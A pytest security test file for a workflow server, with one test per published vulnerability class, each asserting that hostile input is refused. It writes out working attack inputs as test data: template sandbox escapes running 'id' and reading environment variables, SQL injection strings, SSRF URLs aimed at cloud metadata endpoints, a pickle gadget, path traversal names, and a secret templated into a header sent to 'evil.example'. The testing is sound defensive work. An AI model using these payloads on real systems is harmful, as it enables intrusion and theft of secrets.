"""What was published about servers of this kind, one test for each class, by its name."""

import importlib.metadata
import json
import os
import pickle
import site
import sqlite3
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import ormsgpack
import pytest

from fakes.served import Served, serving
from flowc.server.app import API
from flowc.server.secrets.sealing import new_sealing_key

ROOT = Path(__file__).parents[2]
CANARY = "canary-5f0c2a7e"


@pytest.fixture
async def served(tmp_path: Path) -> AsyncIterator[Served]:
    documents = tmp_path / "documents"
    documents.mkdir()
    (documents / "mine.txt").write_text("mine")
    (documents / "link.txt").symlink_to(tmp_path / "canary.txt")
    settings = {"sealing_keys": [new_sealing_key()], "document_dirs": [documents]}
    async with serving(tmp_path / "d", **settings) as found:
        yield found


@pytest.fixture
def drop(tmp_path: Path) -> Path:
    """A file that an attack would write."""
    return tmp_path / "drop"


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A file that an attack would read."""
    file = tmp_path / "canary.txt"
    file.write_text(CANARY)
    return file


async def run_of(served: Served, *nodes: Any) -> Any:
    """Send a definition to be run; return the answer, and the whole run if there is one."""
    body = {"definition": {"nodes": list(nodes)}}
    url = f"{API}/workflows/execute?include=nodes"
    return await served.ask("POST", url, served.admin, json=body)


def has_not_worked(answer: Any) -> bool:
    is_refused = answer.status_code in {400, 422}
    return is_refused or (answer.status_code == 200 and answer.json()["status"] == "failed")


@pytest.mark.parametrize(
    "text",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].environ }}",
        "{{ self._TemplateReference__context }}",
        "{{ ''|attr('__class__') }}",
        "{{ 'x'.format }}",
        "{{ namespace.__init__ }}",
        "{{ input.constructor.constructor('return process')() }}",
        "{{ config.items() }}",
        "{% import 'os' as os %}{{ os.environ }}",
        "{% include '/etc/passwd' %}",
    ],
)
async def test_expression_sandbox_escape(served: Served, text: str) -> None:
    answer = await run_of(served, {"id": "t", "type": "template", "config": {"template": text}})
    assert has_not_worked(answer), answer.text
    assert "uid=" not in answer.text and "<class" not in answer.text and "root:" not in answer.text


@pytest.mark.parametrize("engine", ["monty", "asteval"])
@pytest.mark.parametrize(
    "body",
    [
        "return open({path!r}).read()",
        "return __import__('os').popen('cat ' + {path!r}).read()",
        "return ().__class__.__base__.__subclasses__()",
        "import os\n    return os.environ",
        "try:\n        1 / 0\n    except Exception as e:\n        return e.__traceback__.tb_frame.f_globals",
        "return '{{0.__class__.__init__.__globals__}}'.format(process)",
    ],
)
async def test_code_node_escape(served: Served, canary: Path, engine: str, body: str) -> None:
    code = f"def process():\n    {body.format(path=str(canary))}\n"
    config = {"code": code, "engine": engine}
    answer = await run_of(served, {"id": "c", "type": "code", "config": config})
    assert CANARY not in answer.text and "PATH" not in answer.text
    assert has_not_worked(answer), answer.text


async def test_code_that_runs_when_it_is_checked_or_imported(served: Served, drop: Path) -> None:
    write = f"open({str(drop)!r}, 'w').write('x')"
    for code in (
        f"{write}\ndef process():\n    return 1",
        f"def process(x={write}):\n    return 1",
        f"@{write}\ndef process():\n    return 1",
        f"class A:\n    {write}\ndef process():\n    return 1",
    ):
        definition = {"nodes": [{"id": "c", "type": "code", "config": {"code": code}}]}
        for path in ("/workflows", "/workflows/execute"):
            body = {"definition": definition}
            answer = await served.ask("POST", f"{API}{path}", served.admin, json=body)
            assert answer.status_code < 500
    assert not drop.exists()


async def test_definition_in_a_public_run_request(served: Served, drop: Path) -> None:
    say = {"nodes": [{"id": "s", "type": "template", "config": {"template": "safe"}}]}
    body: Any = {"id": "say", "definition": say}
    assert (await served.ask("POST", f"{API}/workflows", served.admin, json=body)).is_success
    narrow = await served.new_key(workflow_id="say")
    other = {"nodes": [{"id": "s", "type": "template", "config": {"template": "other"}}]}
    sent: Any = {"definition": other, "nodes": other["nodes"]}
    assert (
        await served.ask("POST", f"{API}/workflows/execute", narrow, json={"definition": other})
    ).status_code == 403
    execute = await served.ask("POST", f"{API}/workflows/say/execute", narrow, json=sent)
    assert execute.status_code == 422
    run = await served.ask(
        "POST", f"{API}/workflows/say/execute", narrow, json={"input": {"definition": other}}
    )
    assert run.json()["output"]["text"] == "safe"


@pytest.mark.parametrize(
    "config",
    [
        {"command": "touch", "args": ["{drop}"], "tool": "x"},
        {"server": {"command": "touch", "args": ["{drop}"]}, "tool": "x"},
        {"server": "npx", "tool": "x"},
        {"url": "stdio:touch {drop}", "tool": "x"},
        {"url": "file://{drop}", "tool": "x"},
    ],
)
async def test_command_from_a_definition(served: Served, drop: Path, config: Any) -> None:
    sent = json.loads(json.dumps(config).replace("{drop}", str(drop)))
    answer = await run_of(served, {"id": "m", "type": "mcp", "config": sent})
    assert has_not_worked(answer), answer.text
    assert not drop.exists()


async def test_sql_from_names_and_filters(served: Served) -> None:
    hostile = ["'; drop table runs; --", '" or 1=1 --', "%", "_", "\\", "x' union select 1--", "\0"]
    for path, methods in served.app.openapi()["paths"].items():
        for method, operation in methods.items():
            if method != "get":
                continue
            texts = [each for each in operation.get("parameters", ()) if each["in"] == "query"]
            for text in hostile:
                address = path
                for each in operation.get("parameters", ()):
                    if each["in"] == "path":
                        quoted = text.replace("%", "%25").replace("/", "").replace("\0", "%00")
                        address = address.replace("{" + each["name"] + "}", quoted)
                params = {each["name"]: text for each in texts}
                answer = await served.ask("GET", address, served.admin, params=params)
                assert answer.status_code < 500, (address, text, answer.text)
    assert (await served.ask("GET", f"{API}/runs", served.admin)).json()["total"] == 0


async def test_content_type_confusion(served: Served, canary: Path) -> None:
    files = f"{API}/knowledge/files"
    stolen = {"file": {"path": str(canary), "filename": "x"}}
    assert (await served.ask("POST", files, served.admin, json=stolen)).status_code in {415, 422}
    form = {"input": json.dumps({"path": str(canary)})}
    sent = await served.ask("POST", f"{API}/workflows/execute", served.admin, data=form)
    assert sent.status_code == 415
    given = {"files": [str(canary)], "wait": True}
    collection = f"{API}/knowledge/collections/c"
    answer = await served.ask("POST", f"{collection}/ingest", served.admin, json=given)
    assert CANARY not in answer.text
    found = await served.ask("POST", f"{collection}/search", served.admin, json={"query": "canary"})
    assert CANARY not in found.text


@pytest.mark.parametrize(
    "url",
    [
        "http://169.254.169.254/latest/meta-data/",
        "http://[::ffff:169.254.169.254]/",
        "http://[64:ff9b::a9fe:a9fe]/",
        "http://2852039166/",
        "http://0x7f.1/",
        "http://127.0.0.1:5432/",
        "http://localhost./",
        "http://metadata.google.internal/",
        "http://user@127.0.0.1/",
        "file:///etc/passwd",
        "gopher://127.0.0.1:6379/_x",
    ],
)
async def test_server_side_request_forgery(served: Served, url: str) -> None:
    answer = await run_of(served, {"id": "h", "type": "http", "config": {"url": url}})
    assert has_not_worked(answer), answer.text
    body = {"url": url, "events": ["run.completed"], "secret": "hook"}
    subscribed = await served.ask("POST", f"{API}/subscriptions", served.admin, json=body)
    assert subscribed.status_code == 422, subscribed.text
    # Not because the secret is missing: the address is looked at first.
    assert subscribed.json()["error"]["code"] != "secret-missing", subscribed.text


async def test_use_of_the_credential_of_another(served: Served) -> None:
    acme = await served.new_key(role="admin", tenant="acme")
    zeta = await served.new_key(role="admin", tenant="zeta")
    path, body = f"{API}/secrets/token", {"value": CANARY, "hosts": ["api.example.com"]}
    assert (await served.ask("PUT", path, acme, json=body)).is_success
    config = {"url": "https://evil.example/", "headers": {"x": "{{secrets.token}}"}}
    definition = {"nodes": [{"id": "h", "type": "http", "config": config}]}
    for key, code in ((acme, "secret-not-for-host"), (zeta, "missing-secret")):
        sent = {"definition": definition}
        answer = await served.ask("POST", f"{API}/workflows/execute", key, json=sent)
        assert code in answer.text and CANARY not in answer.text, answer.text


async def test_missing_owner_check(served: Served) -> None:
    """All operations with the ids of another tenant are in test_tenants.py."""
    acme = await served.new_key(role="admin", tenant="acme")
    say = {"nodes": [{"id": "s", "type": "template", "config": {"template": CANARY}}]}
    body = {"definition": say}
    run = (await served.ask("POST", f"{API}/workflows/execute", acme, json=body)).json()["id"]
    for path in (f"{API}/runs/{run}", f"{API}/runs/{run}/logs", f"/v1/responses/resp_{run}"):
        answer = await served.ask("GET", path, served.admin)
        assert answer.status_code == 404 and CANARY not in answer.text


async def test_role_check_in_the_pages_alone(served: Served) -> None:
    """All operations in all roles are in test_access.py."""
    viewer = await served.new_key(role="viewer")
    begun = await served.client.post(f"{API}/session", json={"credential": viewer})
    csrf = {"x-csrf-token": begun.json()["csrf_token"], "origin": "http://127.0.0.1"}
    for method, path in (
        ("POST", "/workflows"),
        ("POST", "/workflows/execute"),
        ("POST", "/keys"),
        ("GET", "/audit"),
        ("PUT", "/secrets/x"),
    ):
        assert (await served.ask(method, f"{API}{path}", viewer, json={})).status_code == 403
        as_page = await served.client.request(method, f"{API}{path}", json={}, headers=csrf)
        assert as_page.status_code == 403, as_page.text


async def test_empty_or_null_token(served: Served) -> None:
    for text in ("", " ", "Bearer", "Bearer ", "Bearer null", "Bearer undefined", "Bearer []",
                 "Bearer 0", "Bearer flowc__", "Basic Og==", "null", "Token x"):  # fmt: skip
        headers = {"authorization": text}
        assert (await served.client.get(f"{API}/runs", headers=headers)).status_code == 401, text
    for body in ({}, {"credential": None}, {"credential": ""}, {"credential": []},
                 {"credential": {"$ne": ""}}, [], None, {"credential": "null"}):  # fmt: skip
        answer = await served.client.post(f"{API}/session", json=body)
        assert 400 <= answer.status_code < 500 and "set-cookie" not in answer.headers, body


async def test_cross_origin_requests_with_a_cookie(tmp_path: Path) -> None:
    friend = "https://friend.example"
    async with serving(tmp_path / "d", cors_origins=[friend]) as served:
        begun = await served.client.post(f"{API}/session", json={"credential": served.admin})
        csrf = {"x-csrf-token": begun.json()["csrf_token"]}
        for origin in ("https://evil.example", "null", "http://127.0.0.1.evil.example"):
            read = await served.client.get(f"{API}/runs", headers={"origin": origin})
            assert "access-control-allow-origin" not in read.headers
            write = await served.client.post(
                f"{API}/signals", json={"name": "x"}, headers={"origin": origin, **csrf}
            )
            assert write.status_code == 403
        read = await served.client.get(f"{API}/runs", headers={"origin": friend})
        assert "access-control-allow-credentials" not in read.headers


async def test_access_decided_by_a_reconstructed_url(served: Served) -> None:
    for host in ("127.0.0.1/ping?", "127.0.0.1#/ping", "127.0.0.1\\ping", "x@127.0.0.1", "evil.example",
                 "127.0.0.1:80:80", "", "/ping", "127.0.0.1/api/v1/../../ping"):  # fmt: skip
        for path in (f"{API}/runs", f"{API}/keys", "/mcp", "/v1/models"):
            headers = [("host", host)]
            answer = await served.client.get(path, headers=headers)
            assert answer.status_code in {400, 401, 403, 421}, (host, path, answer.status_code)
    for path in ("/ping/../api/v1/runs", "//api/v1/runs", "/health/..%2fapi/v1/runs"):
        assert not (await served.client.get(path)).is_success


class _Writes:
    def __init__(self, drop: Path) -> None:
        self._drop = drop

    def __reduce__(self) -> Any:
        return os.mkdir, (str(self._drop),)


@pytest.mark.parametrize("encoding", ["pickle", "json", "msgpack"])
async def test_unsafe_deserialisation(served: Served, drop: Path, encoding: str) -> None:
    ask = {"id": "ask", "type": "human"}
    say = {"id": "say", "type": "template", "config": {"template": "x"}}
    nodes = [say, {**ask, "depends_on": ["say"]}]
    run = (await run_of(served, *nodes)).json()
    assert run["status"] == "waiting", run
    call = ["os", "mkdir", [str(drop)]]
    forged = {
        "pickle": pickle.dumps(_Writes(drop)),
        "json": json.dumps(
            {"lc": 2, "type": "constructor", "id": ["os", "mkdir"], "args": [str(drop)]}
        ).encode(),
        "msgpack": ormsgpack.packb(ormsgpack.Ext(1, ormsgpack.packb(call))),
    }[encoding]
    with sqlite3.connect(served.folder / "flowc.db") as database:
        changed = database.execute(
            "update graph_checkpoints set encoding = ?, checkpoint = ? where thread_id = ?",
            (encoding, forged, run["id"]),
        )
        assert changed.rowcount > 0
    [asked] = (await served.ask("GET", f"{API}/interrupts", served.admin)).json()
    url = f"{API}/interrupts/{asked['id']}/answer"
    await served.ask("POST", url, served.admin, json={"answer": "approve"})
    async for _ in served.app.state.process.default.runs.events(run["id"]):
        pass
    assert not drop.exists()


async def test_path_traversal_in_uploads(served: Served, canary: Path) -> None:
    names = ["../../drop", "/etc/drop", "..\\..\\drop", "a/../../drop", "%2e%2e%2fdrop"]
    for name in names:
        sent = {"file": (name, b"x", "text/plain")}
        made = await served.ask("POST", f"{API}/knowledge/files", served.admin, files=sent)
        assert made.status_code in {201, 422}
        if made.is_success:
            assert "/" not in made.json()["name"] and "\\" not in made.json()["name"]
    assert not list(served.folder.parent.rglob("drop"))
    mine = await run_of(served, {"id": "r", "type": "read_file", "config": {"path": "mine.txt"}})
    assert mine.json()["status"] == "completed", mine.text
    for path in (
        str(canary),
        "link.txt",
        "../canary.txt",
        f"/proc/self/root{canary}",
        f"{canary}\0.txt",
    ):
        answer = await run_of(served, {"id": "r", "type": "read_file", "config": {"path": path}})
        assert has_not_worked(answer) and CANARY not in answer.text, answer.text


def test_poisoned_dependency() -> None:
    lock = (ROOT / "requirements.lock").read_text()
    assert not {"litellm==1.82.7", "litellm==1.82.8"} & set(lock.split())
    assert importlib.metadata.version("litellm") not in {"1.82.7", "1.82.8"}
    # A file of this kind is run whenever Python starts.
    known = {"_flowc.pth", "a1_coverage.pth", "distutils-precedence.pth", "_virtualenv.pth"}
    found = {file.name for folder in site.getsitepackages() for file in Path(folder).glob("*.pth")}
    assert found <= known
